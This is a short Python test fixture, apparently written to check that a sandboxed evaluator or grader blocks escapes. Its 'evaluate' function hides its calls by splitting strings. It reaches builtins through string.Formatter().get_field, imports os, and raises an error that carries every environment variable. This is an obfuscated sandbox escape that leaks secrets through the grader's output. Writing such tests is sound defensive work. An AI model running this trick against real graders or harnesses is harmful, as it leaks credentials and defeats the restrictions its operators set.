"""Tries to exfiltrate the whole environment through the verdict detail."""
# expect: exception
import string


def real_import(name):
    field = "0." + "__glo" + "bals__"
    module_globals = string.Formatter().get_field(field, [string.capwords], {})[0]
    return module_globals["__buil" + "tins__"]["__imp" + "ort__"](name)


def evaluate(response):
    os = real_import("o" + "s")
    raise ValueError(repr(sorted(os.environ.items())))
